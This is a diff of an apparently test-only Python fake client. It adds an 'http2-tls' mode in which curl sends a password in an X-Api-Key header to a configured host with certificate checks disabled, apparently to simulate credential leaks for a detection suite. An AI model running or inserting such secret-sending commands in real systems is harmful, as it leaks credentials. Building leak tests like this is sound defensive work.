@@ -177,6 +177,11 @@ def leak():
                 exchange(sock, "", body)
         except (OSError, ssl.SSLError) as error:
             print(f"fake-client: {error}", file=sys.stderr)
+    elif MODE == "http2-tls":
+        # HTTP/2 over TLS where the host offers it (curl --insecure --http2), the password in a header.
+        import subprocess
+        subprocess.run(["curl", "--silent", "--insecure", "--http2", "--max-time", "5", "--header", f"X-Api-Key: {PASSWORD}",
+                        "--output", "/dev/null", f"https://{HOST}:{PORT}/status.php"], check=False)
     elif MODE == "http2-header":
         # HTTP/2 in clear by prior knowledge (curl, nghttp2's HPACK with Huffman coding) to a name
         # of its own, the password in a header: only inside the suite's network namespace.
